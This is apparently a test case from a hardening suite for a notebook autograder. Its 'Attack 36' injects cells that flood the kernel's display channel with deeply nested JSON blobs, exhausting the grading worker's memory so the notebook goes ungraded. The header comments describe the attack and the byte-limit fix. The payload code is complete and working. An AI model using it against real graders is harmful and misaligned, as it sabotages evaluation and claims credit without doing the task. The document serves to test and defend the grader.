# Attack 36, outputs small as JSON text and huge once decoded: four cells each send 850 kB of
# application/json made of dicts nested 61 deep with empty keys, which the byte budgets
# charged a few kilobytes and a worker held as 120 MB each, four times over once nbgrader
# copied the notebook: the worker passed its memory limit twice, not graded.
# Why: full marks: the honest equivalent is the solution; every value is charged what it
#   holds once decoded, so the outputs are cut to the byte limit (flagged).
# ruff: noqa
# fmt: off
### AFTER em_plot
_k = get_ipython().kernel
_chain = b'{"":' * 60 + b'{}' + b'}' * 60
_n = 850_000 // len(_chain)
_blob = b'{"data": {"application/json": [' + b','.join([_chain] * _n) + b'], "text/plain": "x"}, "metadata": {}}'
_k.session.send(_k.iopub_socket, 'display_data', content=_blob, parent=_k.get_parent())
import time as _t; _t.sleep(2)
### AFTER em_plot
_k.session.send(_k.iopub_socket, 'display_data', content=_blob, parent=_k.get_parent()); _t.sleep(2)
### AFTER em_plot
_k.session.send(_k.iopub_socket, 'display_data', content=_blob, parent=_k.get_parent()); _t.sleep(2)
### AFTER em_plot
_k.session.send(_k.iopub_socket, 'display_data', content=_blob, parent=_k.get_parent()); _t.sleep(2)
